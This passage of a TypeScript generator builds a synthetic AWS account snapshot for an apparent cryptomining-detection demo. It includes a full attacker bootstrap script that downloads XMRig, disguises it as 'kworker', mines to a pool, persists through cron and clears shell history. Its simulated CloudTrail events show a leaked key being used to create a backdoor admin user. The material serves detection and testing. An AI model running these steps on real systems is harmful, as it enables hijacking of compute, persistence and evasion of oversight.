/**
 * Generates scenarios/demo-account/snapshot.json: the account every newcomer meets first with
 * `npx minewatch demo`. Run: `npx tsx scripts/scenarios/demo-account.ts`.
 *
 * The story (scenario.yaml says what Minewatch must conclude): a small company running web and batch
 * workloads in eu-west-1 is hit twice. A leaked access key launches a GPU and compute fleet with an
 * XMRig user-data script in three regions it never used, about 30 hours before the audit; and,
 * quieter, a miner inside the batch Kubernetes cluster pins three existing nodes at a flat, capped
 * CPU level for the last 60 hours (the Tesla pattern). Around them, ordinary look-alikes must stay
 * quiet: office-hours web servers, a steady database, a nightly ETL job, CI runners and an
 * allowlisted first run of the ML team's GPU training pipeline.
 *
 * Deterministic: each resource draws its noise from its own seeded stream and its id from its name,
 * so editing one resource never changes the others, and the file only changes when this script does.
 */
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { IAM_EVENT_NAMES, normalizeEvent, REGIONAL_EVENT_NAMES } from "../../lambda/collect/cloudtrail.js";
import { redactSecrets } from "../../lambda/core/redact.js";
import type { CloudTrail, CloudTrailEvent } from "../../lambda/core/sections/cloudtrail.js";
import {
  type AccountSnapshot,
  type AccountSnapshotInput,
  AccountSnapshotSchema,
  type CostAnomaly,
  type CoverageEntry,
  type Instance,
  type InstanceMetrics,
  type InstanceTypeInfo,
  SNAPSHOT_SCHEMA_VERSION,
} from "../../lambda/core/snapshot.js";
import { DEFAULT_REGIONS } from "./account-builder.js";
import {
  between,
  CostLedger,
  clamp,
  DAY_MS,
  dailyJobLoad,
  dayRange,
  diurnalLoad,
  floorToHour,
  hoursBefore,
  iso,
  isWeekend,
  localTime,
  metricSeries,
  officeHoursLoad,
  percent,
  Rng,
  regionList,
  SERVICE,
  seedFrom,
  stableId,
  storedUserData,
  writeCompactJson,
} from "./lib.js";

export const ACCOUNT_ID = "123456789012";
export const HOME_REGION = "eu-west-1";
export const WINDOW_END = "2026-11-24T06:00:00.000Z";
const WINDOW_START = hoursBefore(WINDOW_END, 24);
/** The collector finishes a few minutes after the window it was asked for. */
const COLLECTED_AT = "2026-11-24T06:03:41.000Z";
/** Days of hourly metric history read for long-running instances: the 14-day baseline plus margin. */
const METRIC_HISTORY_DAYS = 21;
const COST_DAYS = 90;
/** Cost Explorer lags: usage after this time is not in the cost data yet. */
const COST_BILLED_UNTIL = "2026-11-24T03:00:00.000Z";
/** When the leaked key started launching (about 30 hours before the window end). */
const ATTACK_START = "2026-11-23T00:03:00.000Z";
/** When the miner inside the batch cluster started (about 60 hours before the window end). */
const TESLA_START = "2026-11-21T18:00:00.000Z";

/** Fake credentials written into the attacker's user data; the stored snapshot must never hold them. */
export const DEMO_FAKE_ACCESS_KEY_ID = "AKIA4DEMOQ7MINEWATCH";
export const DEMO_FAKE_SECRET_ACCESS_KEY = "Xk8vT3nW5pL2qR7mY4zB9cH1dF6gJ0sA3eU8iOtw";

const OUTPUT = join(dirname(fileURLToPath(import.meta.url)), "../../scenarios/demo-account/snapshot.json");

/** 17 regions enabled by default, plus opt-in regions this account never enabled. */
const ENABLED_REGIONS: string[] = [...DEFAULT_REGIONS];
const NOT_OPTED_IN_REGIONS = ["af-south-1", "ap-east-1", "eu-south-1", "me-south-1", "ap-southeast-3"];

/** DescribeInstanceTypes facts for the types in this account. */
const INSTANCE_TYPES: Record<string, InstanceTypeInfo> = {
  "t3.large": { vcpus: 2, memoryMiB: 8192, gpus: 0, accelerators: 0 },
  "r6i.xlarge": { vcpus: 4, memoryMiB: 32768, gpus: 0, accelerators: 0 },
  "m5.xlarge": { vcpus: 4, memoryMiB: 16384, gpus: 0, accelerators: 0 },
  "m5.2xlarge": { vcpus: 8, memoryMiB: 32768, gpus: 0, accelerators: 0 },
  "c5.xlarge": { vcpus: 4, memoryMiB: 8192, gpus: 0, accelerators: 0 },
  "c5.9xlarge": { vcpus: 36, memoryMiB: 73728, gpus: 0, accelerators: 0 },
  "g4dn.12xlarge": { vcpus: 48, memoryMiB: 196608, gpus: 4, gpuModel: "T4", accelerators: 0 },
  "p3.8xlarge": { vcpus: 32, memoryMiB: 249856, gpus: 4, gpuModel: "V100", accelerators: 0 },
  "p4d.24xlarge": { vcpus: 96, memoryMiB: 1179648, gpus: 8, gpuModel: "A100", accelerators: 0 },
};

/** Approximate on-demand Linux prices, USD per hour, in the regions they run in here. */
const HOURLY_USD: Record<string, Record<string, number>> = {
  "eu-west-1": {
    "t3.large": 0.0912,
    "r6i.xlarge": 0.282,
    "m5.xlarge": 0.214,
    "m5.2xlarge": 0.428,
    "c5.xlarge": 0.192,
    "p4d.24xlarge": 35.4,
  },
  "us-east-2": { "g4dn.12xlarge": 3.912 },
  "ap-southeast-1": { "p3.8xlarge": 16.928 },
  "sa-east-1": { "c5.9xlarge": 2.358 },
};

function hourlyPrice(region: string, instanceType: string): number {
  const price = HOURLY_USD[region]?.[instanceType];
  if (price === undefined) throw new Error(`no price for ${instanceType} in ${region}`);
  return price;
}

/** The company's working day: Dublin and London, which are on UTC in November. */
const OFFICE = { start: 8, end: 18, rampHours: 1.5, utcOffsetHours: 0 } as const;

// ---------------------------------------------------------------------------------------------
// The attacker's user data, as it was submitted (the stored copy is redacted).

function walletAddress(rng: Rng): string {
  const base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
  let out = "4";
  while (out.length < 95) out += rng.pick([...base58]);
  return out;
}

export function attackerUserData(): string {
  const wallet = walletAddress(new Rng(seedFrom("attacker-wallet")));
  return [
    "#!/bin/bash",
    "# instance bootstrap",
    `export AWS_ACCESS_KEY_ID=${DEMO_FAKE_ACCESS_KEY_ID}`,
    `export AWS_SECRET_ACCESS_KEY=${DEMO_FAKE_SECRET_ACCESS_KEY}`,
    "systemctl stop unattended-upgrades 2>/dev/null || true",
    "apt-get -qq update && apt-get -qq install -y curl cpulimit >/dev/null 2>&1",
    "mkdir -p /opt/.cache && cd /opt/.cache",
    "curl -sL -o x.tar.gz https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz",
    "tar -xzf x.tar.gz && mv xmrig-6.22.2/xmrig ./kworker && rm -rf x.tar.gz xmrig-6.22.2",
    `./kworker -o stratum+tcp://pool.supportxmr.com:3333 -u ${wallet} -p x --donate-level 1 -t $(nproc) --background`,
    '(crontab -l 2>/dev/null; echo "@reboot cd /opt/.cache && ./kworker -o stratum+tcp://pool.supportxmr.com:3333 -u ' +
      `${wallet} -p x --donate-level 1 -t $(nproc) --background") | crontab -`,
    "history -c",
    "",
  ].join("\n");
}

const ML_TRAINING_USER_DATA = [
  "#!/bin/bash",
  "set -euo pipefail",
  "# Nightly ranking-model training node (ML platform; launched by the ml-pipeline state machine)",
  "aws s3 cp s3://acme-ml-artifacts/bootstrap/train-node.sh /opt/train-node.sh",
  "chmod +x /opt/train-node.sh",
  "/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c ssm:/ml/cloudwatch-agent-gpu",
  "/opt/train-node.sh --image 123456789012.dkr.ecr.eu-west-1.amazonaws.com/ml/trainer:2026.11.3 \\",
  "  --config configs/ranker-v7.yaml --epochs 12 --output s3://acme-ml-artifacts/runs/nightly/",
  "",
].join("\n");

// ---------------------------------------------------------------------------------------------
// Instances

interface Workload {
  /** Logical name: the instance id and the noise stream derive from it. */
  name: string;
  instance: Omit<Instance, "instanceId" | "tags"> & { tags?: Record<string, string> };
  /** Until when it ran (ISO); the window end when still running. */
  runsUntil?: string;
  /** CPU percent for the hour starting at `ms`. */
  cpu: (ms: number, rng: Rng) => number;
  /** Bytes sent per hour and the average packet size. */
  networkOut: (ms: number, rng: Rng) => number;
  packetBytes: number;
  /** GPU utilization percent, when the CloudWatch agent reports it. */
  gpu?: (ms: number, rng: Rng) => number;
}

function buildWorkloads(): Workload[] {
  const workloads: Workload[] = [];
  const vpc = stableId("vpc", "main");
  const subnet = (az: string) => stableId("subnet", `private-${az}`);

  // Web servers behind a load balancer: traffic follows the European day, lighter at weekends.
  for (let n = 1; n <= 4; n++) {
    const dayLevel = 24 + 3 * n;
    workloads.push({
      name: `web-${n}`,
      instance: {
        region: HOME_REGION,
        instanceType: "t3.large",
        state: "running",
        launchTime: iso(Date.parse("2026-07-14T09:12:00Z") + n * 41_000),
        imageId: stableId("ami", "web-2026-07"),
        keyName: "ops-2025",
        vpcId: vpc,
        subnetId: subnet(n % 2 === 0 ? "a" : "b"),
        iamInstanceProfileArn: `arn:aws:iam::${ACCOUNT_ID}:instance-profile/web-app`,
        launchTemplateId: stableId("lt", "web"),
        autoScalingGroup: "web-prod",
        tags: { Name: "web", Environment: "production", "aws:autoscaling:groupName": "web-prod" },
      },
      cpu: (ms, rng) => between(diurnalLoad(ms, 14, { weekendFactor: 0.55 }), 4, dayLevel) + rng.normal(0, 1.6),
      networkOut: (ms, rng) =>
        between(diurnalLoad(ms, 14, { weekendFactor: 0.55 }), 2.5e8, 2.2e9) * rng.uniform(0.9, 1.1),
      packetBytes: 1100,
    });
  }

  // The database: a steady, busy primary with no daily rhythm to speak of.
  workloads.push({
    name: "db-primary",
    instance: {
      region: HOME_REGION,
      instanceType: "r6i.xlarge",
      state: "running",
      launchTime: "2026-03-02T10:41:07.000Z",
      imageId: stableId("ami", "db-2026-03"),
      keyName: "ops-2025",
      vpcId: vpc,
      subnetId: subnet("a"),
      iamInstanceProfileArn: `arn:aws:iam::${ACCOUNT_ID}:instance-profile/db-server`,
      tags: { Name: "db-primary", Environment: "production", Role: "postgresql" },
    },
    cpu: (ms, rng) => 40 + 2 * diurnalLoad(ms, 14) + rng.normal(0, 2),
    networkOut: (_ms, rng) => rng.uniform(7e8, 1.1e9),
    packetBytes: 800,
  });

  // The batch cluster (EKS nodes in the batch-workers ASG): office-hours jobs, idle nights and weekends.
  // From TESLA_START a capped miner in pods on three of the four nodes holds them flat at ~40 %.
  for (let n = 1; n <= 4; n++) {
    const compromised = n <= 3;
    workloads.push({
      name: `batch-worker-${n}`,
      instance: {
        region: HOME_REGION,
        instanceType: "m5.xlarge",
        state: "running",
        launchTime: iso(Date.parse("2026-09-05T13:20:00Z") + n * 37_000),
        imageId: stableId("ami", "eks-node-1.31"),
        vpcId: vpc,
        subnetId: subnet(n % 2 === 0 ? "a" : "b"),
        iamInstanceProfileArn: `arn:aws:iam::${ACCOUNT_ID}:instance-profile/eks-batch-node`,
        launchTemplateId: stableId("lt", "batch-workers"),
        autoScalingGroup: "batch-workers",
        tags: {
          Name: "batch-worker",
          "aws:autoscaling:groupName": "batch-workers",
          "eks:cluster-name": "batch",
          "kubernetes.io/cluster/batch": "owned",
        },
      },
      cpu: (ms, rng) => {
        if (compromised && ms >= Date.parse(TESLA_START)) return clamp(40 + rng.normal(0, 1.8), 35, 45);
        const load = officeHoursLoad(ms, OFFICE);
        return load > 0 ? between(load, rng.uniform(3, 8), rng.uniform(45, 65)) : rng.uniform(3, 8);
      },
      networkOut: (ms, rng) => {
        const steadyMiner = compromised && ms >= Date.parse(TESLA_START) ? rng.uniform(3e6, 5e6) : 0;
        return between(officeHoursLoad(ms, OFFICE), 2e7, 6e8) * rng.uniform(0.85, 1.15) + steadyMiner;
      },
      packetBytes: 700,
    });
  }

  // The nightly ETL: a long-lived box that works hard from 01:00 to about 03:30 and idles otherwise.
  workloads.push({
    name: "etl-nightly",
    instance: {
      region: HOME_REGION,
      instanceType: "m5.2xlarge",
      state: "running",
      launchTime: "2026-06-27T08:05:51.000Z",
      imageId: stableId("ami", "etl-2026-06"),
      keyName: "ops-2025",
      vpcId: vpc,
      subnetId: subnet("b"),
      iamInstanceProfileArn: `arn:aws:iam::${ACCOUNT_ID}:instance-profile/etl-nightly`,
      tags: { Name: "etl-nightly", Environment: "production", Schedule: "01:00 UTC" },
    },
    cpu: (ms, rng) => (dailyJobLoad(ms, 1, 3) ? rng.uniform(82, 95) : rng.uniform(2, 5)),
    networkOut: (ms, rng) => (dailyJobLoad(ms, 1, 3) ? rng.uniform(3e9, 5e9) : rng.uniform(5e6, 2e7)),
    packetBytes: 1300,
  });

  // CI runners: short-lived, launched per pipeline run and terminated when it ends. DescribeInstances
  // still lists the one that ended a few minutes ago; yesterday's runners are long gone.
  const runners: { name: string; launch: string; end?: string }[] = [
    { name: "ci-runner-nightly", launch: "2026-11-24T04:52:13.000Z", end: "2026-11-24T05:38:40.000Z" },
    { name: "ci-runner-a", launch: "2026-11-24T05:31:02.000Z" },
    { name: "ci-runner-b", launch: "2026-11-24T05:31:04.000Z" },
  ];
  for (const runner of runners) {
    workloads.push({
      name: runner.name,
      instance: {
        region: HOME_REGION,
        instanceType: "c5.xlarge",
        state: runner.end ? "terminated" : "running",
        launchTime: runner.launch,
        imageId: stableId("ami", "ci-runner-2026-11"),
        vpcId: vpc,
        subnetId: subnet("a"),
        iamInstanceProfileArn: `arn:aws:iam::${ACCOUNT_ID}:instance-profile/ci-runner`,
        launchTemplateId: stableId("lt", "ci-runner"),
        tags: { Name: "ci-runner", ci: "github-actions", "ci:ephemeral": "true" },
      },
      ...(runner.end ? { runsUntil: runner.end } : {}),
      cpu: (_ms, rng) => rng.uniform(55, 85),
      networkOut: (_ms, rng) => rng.uniform(2e8, 6e8),
      packetBytes: 1200,
    });
  }

  // The ML team's new nightly training pipeline, first run tonight: allowlisted by its instance
  // profile in config.yaml. The CloudWatch agent reports GPU utilization.
  for (let n = 1; n <= 2; n++) {
    workloads.push({
      name: `ml-train-${n}`,
      instance: {
        region: HOME_REGION,
        instanceType: "p4d.24xlarge",
        state: "running",
        launchTime: iso(Date.parse("2026-11-24T00:01:12Z") + n * 2_000),
        imageId: stableId("ami", "dlami-2026-10"),
        vpcId: vpc,
        subnetId: subnet("a"),
        iamInstanceProfileArn: `arn:aws:iam::${ACCOUNT_ID}:instance-profile/ml-pipeline-training`,
        launchTemplateId: stableId("lt", "ml-train"),
        tags: { Name: "ml-train-nightly", team: "ml", pipeline: "nightly-train" },
        userData: storedUserData(ML_TRAINING_USER_DATA, redactSecrets),
      },
      cpu: (_ms, rng) => rng.uniform(24, 38),
      networkOut: (_ms, rng) => rng.uniform(4e9, 9e9),
      packetBytes: 8000,
      gpu: (_ms, rng) => clamp(95 + rng.normal(0, 1.5), 0, 100),
    });
  }

  // The leaked key: one script launches the fleet region after region within ten minutes. Nothing
  // tags the instances, no instance profile, no key pair; public IPs to reach the pool.
  const fleet: { region: string; instanceType: string; count: number; offsetMinutes: number; ipPrefixes: string[] }[] =
    [
      {
        region: "us-east-2",
        instanceType: "g4dn.12xlarge",
        count: 4,
        offsetMinutes: 0,
        ipPrefixes: ["3.142", "18.218"],
      },
      {
        region: "ap-southeast-1",
        instanceType: "p3.8xlarge",
        count: 2,
        offsetMinutes: 4,
        ipPrefixes: ["13.214", "54.169"],
      },
      { region: "sa-east-1", instanceType: "c5.9xlarge", count: 4, offsetMinutes: 7, ipPrefixes: ["18.228", "54.232"] },
    ];
  const attackerScript = attackerUserData();
  for (const group of fleet) {
    const gpu = (INSTANCE_TYPES[group.instanceType]?.gpus ?? 0) > 0;
    for (let n = 1; n <= group.count; n++) {
      const name = `attacker-${group.region}-${n}`;
      const rng = new Rng(seedFrom(`${name}-inventory`));
      workloads.push({
        name,
        instance: {
          region: group.region,
          instanceType: group.instanceType,
          state: "running",
          // EC2 reports launch times to the second.
          launchTime: iso(Date.parse(ATTACK_START) + group.offsetMinutes * 60_000 + n * rng.int(20, 45) * 1000),
          imageId: stableId("ami", `ubuntu-22.04-${group.region}`),
          vpcId: stableId("vpc", `default-${group.region}`),
          subnetId: stableId("subnet", `default-${group.region}-a`),
          publicIpAddress: rng.publicIp(group.ipPrefixes),
          tags: {},
          userData: storedUserData(attackerScript, redactSecrets),
        },
        // XMRig on every thread: CPU instances pinned, GPU instances nearly so (CPU backend alongside).
        cpu: (_ms, r) => (gpu ? r.uniform(88, 97) : clamp(99.2 + r.normal(0, 0.5), 0, 100)),
        // A pool connection is a trickle of small packets, steady day and night.
        networkOut: (_ms, r) => r.uniform(3e6, 5e6),
        packetBytes: 160,
      });
    }
  }
  return workloads;
}

function instanceMetrics(workload: Workload): InstanceMetrics {
  const rng = new Rng(seedFrom(`${workload.name}-metrics`));
  const launch = Date.parse(workload.instance.launchTime);
  const historyStart = Date.parse(WINDOW_END) - METRIC_HISTORY_DAYS * DAY_MS;
  const start = iso(floorToHour(Math.max(launch, historyStart)));
  const end = workload.runsUntil ?? WINDOW_END;
  // One pass per hour so CPU, network and GPU of the same hour are drawn together.
  const hours: { cpu: number; bytes: number; gpu: number | null }[] = [];
  const hourly = metricSeries({
    start,
    end,
    value: (ms) => {
      hours.push({
        cpu: percent(workload.cpu(ms, rng)),
        bytes: Math.round(workload.networkOut(ms, rng)),
        gpu: workload.gpu ? percent(workload.gpu(ms, rng)) : null,
      });
      return hours.at(-1)?.cpu ?? null;
    },
  });
  const like = (stat: "Average" | "Sum", values: (number | null)[]) => ({ ...hourly, stat, values });
  return {
    cpu: hourly,
    networkOut: like(
      "Sum",
      hours.map((h) => h.bytes),
    ),
    networkPacketsOut: like(
      "Sum",
      hours.map((h) => Math.round(h.bytes / workload.packetBytes)),
    ),
    ...(workload.gpu
      ? {
          gpu: like(
            "Average",
            hours.map((h) => h.gpu),
          ),
        }
      : {}),
  };
}

// ---------------------------------------------------------------------------------------------
// Costs

function buildCosts(workloads: Workload[]): AccountSnapshotInput["costs"] {
  const days = dayRange(WINDOW_END.slice(0, 10), COST_DAYS);
  const ledger = new CostLedger(days);
  const rng = new Rng(seedFrom("costs"));
  const weekday = (day: string) => !isWeekend(new Date(`${day}T00:00:00Z`).getUTCDay());
  /** Slow growth over the quarter, as a small company's bill does. */
  const growth = (index: number) => 0.92 + (0.08 * index) / (COST_DAYS - 1);
  const lastFullDay = days.length - 2;
  /** The last day is partial: only what Cost Explorer processed before COST_BILLED_UNTIL. */
  const dayShare = (index: number) =>
    index <= lastFullDay ? 1 : (Date.parse(COST_BILLED_UNTIL) - Date.parse(`${days.at(-1)}T00:00:00Z`)) / DAY_MS;

  // Long-running EC2 in the home region: the same instances (or their predecessors) all quarter.
  const steady: { instanceType: string; count: number }[] = [
    { instanceType: "t3.large", count: 4 },
    { instanceType: "r6i.xlarge", count: 1 },
    { instanceType: "m5.xlarge", count: 4 },
    { instanceType: "m5.2xlarge", count: 1 },
  ];
  for (const { instanceType, count } of steady) {
    ledger.addDaily(
      { region: HOME_REGION, service: SERVICE.ec2Compute, instanceType },
      (i) => count * 24 * hourlyPrice(HOME_REGION, instanceType) * dayShare(i),
    );
  }
  // CI runner-hours: busy on working days, a few scheduled builds at weekends.
  ledger.addDaily(
    { region: HOME_REGION, service: SERVICE.ec2Compute, instanceType: "c5.xlarge" },
    (i, day) =>
      (weekday(day) ? rng.uniform(18, 30) : rng.uniform(2, 5)) * hourlyPrice(HOME_REGION, "c5.xlarge") * dayShare(i),
  );

  // Everything else a small web company pays for in its home region, and globally.
  const other: { region: string; service: string; perDay: number; weekdayBoost: number }[] = [
    { region: HOME_REGION, service: SERVICE.ec2Other, perDay: 44, weekdayBoost: 1.1 },
    { region: HOME_REGION, service: SERVICE.s3, perDay: 31, weekdayBoost: 1.05 },
    { region: HOME_REGION, service: SERVICE.elastiCache, perDay: 8.2, weekdayBoost: 1 },
    { region: HOME_REGION, service: SERVICE.elb, perDay: 7.6, weekdayBoost: 1.1 },
    { region: HOME_REGION, service: SERVICE.cloudWatch, perDay: 5.1, weekdayBoost: 1.15 },
    { region: HOME_REGION, service: SERVICE.vpc, perDay: 3.6, weekdayBoost: 1 },
    { region: HOME_REGION, service: SERVICE.eks, perDay: 2.4, weekdayBoost: 1 },
    { region: HOME_REGION, service: SERVICE.lambda, perDay: 1.8, weekdayBoost: 1.3 },
    { region: HOME_REGION, service: SERVICE.kms, perDay: 0.9, weekdayBoost: 1 },
    { region: HOME_REGION, service: SERVICE.sqs, perDay: 0.7, weekdayBoost: 1.2 },
    { region: "global", service: SERVICE.cloudFront, perDay: 9.5, weekdayBoost: 1.2 },
    { region: "global", service: SERVICE.route53, perDay: 0.6, weekdayBoost: 1 },
  ];
  for (const line of other) {
    ledger.addDaily(
      { region: line.region, service: line.service },
      (i, day) =>
        line.perDay * growth(i) * (weekday(day) ? line.weekdayBoost : 1) * rng.uniform(0.93, 1.07) * dayShare(i),
    );
  }

  // What ran in the last days: the attacker's fleet (and its EBS volumes) and the ML pipeline's
  // first run, billed as far as Cost Explorer has caught up.
  for (const workload of workloads) {
    const { region, instanceType, launchTime } = workload.instance;
    const isNew = Date.parse(launchTime) > Date.parse(WINDOW_END) - 2 * DAY_MS;
    if (!isNew || instanceType === "c5.xlarge") continue;
    const until = workload.runsUntil ?? WINDOW_END;
    ledger.addRunning(
      { region, service: SERVICE.ec2Compute, instanceType },
      launchTime,
      until,
      hourlyPrice(region, instanceType),
      COST_BILLED_UNTIL,
    );
    // A 100 GiB gp3 root volume each, about $0.011 per hour.
    ledger.addRunning({ region, service: SERVICE.ec2Other }, launchTime, until, 0.011, COST_BILLED_UNTIL);
  }
  return ledger.toCosts();
}

/** Cost Anomaly Detection has caught up with us-east-2 only: anomalies arrive hours to a day late. */
function buildAnomalies(costs: NonNullable<AccountSnapshotInput["costs"]>): CostAnomaly[] {
  const rng = new Rng(seedFrom("anomalies"));
  const uuid = () => `${rng.hex(8)}-${rng.hex(4)}-4${rng.hex(3)}-a${rng.hex(3)}-${rng.hex(12)}`;
  const day = "2026-11-23";
  const index = costs.days.indexOf(day);
  const impact = costs.byRegion?.["us-east-2"]?.[index] ?? 0;
  return [
    {
      anomalyId: uuid(),
      startDate: day,
      totalImpactUsd: Math.round(impact * 100) / 100,
      maxImpactUsd: Math.round(impact * 100) / 100,
      monitorArn: `arn:aws:ce::${ACCOUNT_ID}:anomalymonitor/${uuid()}`,
      rootCauses: [
        {
          service: SERVICE.ec2Compute,
          region: "us-east-2",
          usageType: "USE2-BoxUsage:g4dn.12xlarge",
          linkedAccount: ACCOUNT_ID,
        },
      ],
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// CloudTrail: who launched what. Records are written as CloudTrail writes them and normalized by
// the collector's own code, so the demo carries exactly what a live run would store.

/** The leaked long-term key of the CI deploy user (not the key in the attacker's user data). */
export const DEMO_LEAKED_ACCESS_KEY_ID = "AKIA4CIDEPLOYLEAK7Q2";
/** The spare key the intruder made for itself. */
export const DEMO_BACKUP_ACCESS_KEY_ID = "AKIA4BACKUPSVC0NEW01";
export const DEMO_ATTACKER_IP = "185.220.101.47";
const ATTACKER_AGENT =
  "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1.0-18-amd64 md/arch#x86_64 lang/python#3.11.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.0";
/** CloudTrail history read before the window (the collector's LOOKBACK_MARGIN_DAYS). */
const LOOKUP_START = hoursBefore(WINDOW_START, 7 * 24);

type TrailJson = string | number | boolean | null | TrailJson[] | { [key: string]: TrailJson };

const ciDeployUser = {
  type: "IAMUser",
  principalId: "AIDA4CIDEPLOYUSER001",
  arn: `arn:aws:iam::${ACCOUNT_ID}:user/ci-deploy`,
  accountId: ACCOUNT_ID,
  accessKeyId: DEMO_LEAKED_ACCESS_KEY_ID,
  userName: "ci-deploy",
};

/** A role's unique id, as IAM shows it (AROA + 17 characters), stable per role name. */
function roleId(role: string): string {
  return `AROA${new Rng(seedFrom(`role-${role}`)).hex(17).toUpperCase()}`;
}

function assumedRole(role: string, session: string, accessKeyId: string): { [key: string]: TrailJson } {
  return {
    type: "AssumedRole",
    principalId: `${roleId(role)}:${session}`,
    arn: `arn:aws:sts::${ACCOUNT_ID}:assumed-role/${role}/${session}`,
    accountId: ACCOUNT_ID,
    accessKeyId,
    sessionContext: {
      sessionIssuer: {
        type: "Role",
        principalId: roleId(role),
        arn: `arn:aws:iam::${ACCOUNT_ID}:role/${role}`,
        accountId: ACCOUNT_ID,
        userName: role,
      },
      attributes: { creationDate: session, mfaAuthenticated: "false" },
    },
  };
}

interface TrailCall {
  identity: { [key: string]: TrailJson };
  time: string;
  region: string;
  source: string;
  name: string;
  ip: string;
  agent: string;
  request?: TrailJson;
  response?: TrailJson;
  error?: { code: string; message: string };
}

function trailEvent(call: TrailCall): CloudTrailEvent {
  const eventId = stableUuid(`${call.name}-${call.time}-${call.region}-${JSON.stringify(call.request ?? null)}`);
  const record = {
    eventVersion: "1.09",
    userIdentity: call.identity,
    eventTime: call.time.replace(/\.\d{3}Z$/, "Z"),
    eventSource: call.source,
    eventName: call.name,
    awsRegion: call.region,
    sourceIPAddress: call.ip,
    userAgent: call.agent,
    ...(call.error ? { errorCode: call.error.code, errorMessage: call.error.message } : {}),
    requestParameters: call.request ?? null,
    responseElements: call.response ?? null,
    eventID: eventId,
    readOnly: false,
    eventType: "AwsApiCall",
    managementEvent: true,
    recipientAccountId: ACCOUNT_ID,
  };
  const event = normalizeEvent({ EventId: eventId, CloudTrailEvent: JSON.stringify(record) }, call.region);
  if (!event) throw new Error(`demo CloudTrail record ${call.name} at ${call.time} did not normalize`);
  return event;
}

function stableUuid(name: string): string {
  const hex = new Rng(seedFrom(`trail-${name}`)).hex(32);
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}

function runInstancesCall(
  base: Omit<TrailCall, "name" | "source" | "request" | "response">,
  launched: { instanceId: string; instanceType: string; imageId?: string }[],
): TrailCall {
  const first = launched[0];
  return {
    ...base,
    name: "RunInstances",
    source: "ec2.amazonaws.com",
    request: {
      instancesSet: {
        items: [{ imageId: first?.imageId ?? "", minCount: launched.length, maxCount: launched.length }],
      },
      instanceType: first?.instanceType ?? "",
      // CloudTrail itself hides user data; the collector would drop it anyway.
      userData: "<sensitiveDataRemoved>",
      disableApiTermination: false,
    },
    response: {
      reservationId: stableId("r", `${base.time}-${first?.instanceId ?? ""}`),
      ownerId: ACCOUNT_ID,
      instancesSet: {
        items: launched.map((i, k) => ({
          instanceId: i.instanceId,
          imageId: i.imageId ?? "",
          instanceType: i.instanceType,
          instanceState: { code: 0, name: "pending" },
          amiLaunchIndex: k,
        })),
      },
    },
  };
}

function buildCloudTrail(instances: Instance[]): CloudTrail {
  const calls: TrailCall[] = [];
  const attacker = { identity: ciDeployUser, ip: DEMO_ATTACKER_IP, agent: ATTACKER_AGENT };
  const at = (minutesFromAttack: number) => iso(Date.parse(ATTACK_START) + minutesFromAttack * 60_000);

  // The leaked key: quota requests and DryRun probes first, then the fleet, then a spare admin user.
  for (const [offset, quotaCode, desiredValue] of [
    [-22, "L-DB2E81BA", 192],
    [-21, "L-417A185B", 96],
  ] as const) {
    calls.push({
      ...attacker,
      time: at(offset),
      region: "us-east-1",
      name: "RequestServiceQuotaIncrease",
      source: "servicequotas.amazonaws.com",
      request: { serviceCode: "ec2", quotaCode, desiredValue },
      response: { requestedQuota: { serviceCode: "ec2", quotaCode, desiredValue, status: "PENDING" } },
    });
  }
  const attackerInstances = instances.filter((i) => i.region !== HOME_REGION);
  const attackRegions = [...new Set(attackerInstances.map((i) => i.region))];
  attackRegions.forEach((region, k) => {
    const sample = attackerInstances.find((i) => i.region === region);
    calls.push({
      ...attacker,
      time: at(-5 + k * 0.5),
      region,
      name: "RunInstances",
      source: "ec2.amazonaws.com",
      request: {
        instancesSet: { items: [{ imageId: sample?.imageId ?? "", minCount: 1, maxCount: 1 }] },
        instanceType: sample?.instanceType ?? "",
      },
      error: { code: "Client.DryRunOperation", message: "Request would have succeeded, but DryRun flag is set." },
    });
  });
  for (const instance of attackerInstances) {
    calls.push(
      runInstancesCall({ ...attacker, time: iso(Date.parse(instance.launchTime) - 2_000), region: instance.region }, [
        instance,
      ]),
    );
  }
  const iam = { ...attacker, region: "us-east-1", source: "iam.amazonaws.com" };
  calls.push(
    {
      ...iam,
      time: at(12),
      name: "CreateUser",
      request: { userName: "backup-svc" },
      response: { user: { userName: "backup-svc", arn: `arn:aws:iam::${ACCOUNT_ID}:user/backup-svc` } },
    },
    {
      ...iam,
      time: at(12.1),
      name: "CreateAccessKey",
      request: { userName: "backup-svc" },
      response: { accessKey: { userName: "backup-svc", accessKeyId: DEMO_BACKUP_ACCESS_KEY_ID, status: "Active" } },
    },
    {
      ...iam,
      time: at(12.2),
      name: "AttachUserPolicy",
      request: { userName: "backup-svc", policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" },
    },
  );

  // The ML pipeline's orchestrator role: tonight's p4d run, and its test runs on g5 last week.
  const mlSession = (day: string) => ({
    identity: assumedRole(
      "ml-pipeline-orchestrator",
      `nightly-${day}`,
      `ASIA4MLPIPE${day.replace(/-/g, "").slice(2)}X`,
    ),
    ip: "states.amazonaws.com",
    agent: "states.amazonaws.com",
  });
  const mlRuns = instances.filter((i) => i.tags.pipeline === "nightly-train");
  calls.push(
    runInstancesCall(
      {
        ...mlSession("2026-11-24"),
        time: iso(Date.parse(mlRuns[0]?.launchTime ?? WINDOW_END) - 1_000),
        region: HOME_REGION,
      },
      mlRuns,
    ),
  );
  for (const day of ["2026-11-18", "2026-11-19", "2026-11-20"]) {
    calls.push(
      runInstancesCall({ ...mlSession(day), time: `${day}T00:01:05.000Z`, region: HOME_REGION }, [
        {
          instanceId: stableId("i", `ml-test-${day}`),
          instanceType: "g5.xlarge",
          imageId: stableId("ami", "dlami-2026-10"),
        },
      ]),
    );
  }

  // The CI role (GitHub Actions OIDC): runners every working day, so tonight's are nothing new.
  const ciSession = (run: string) => ({
    identity: assumedRole("ci-runner-launcher", `GitHubActions-${run}`, `ASIA4CIRUN${run.padStart(10, "0")}`),
    ip: "20.57.66.142",
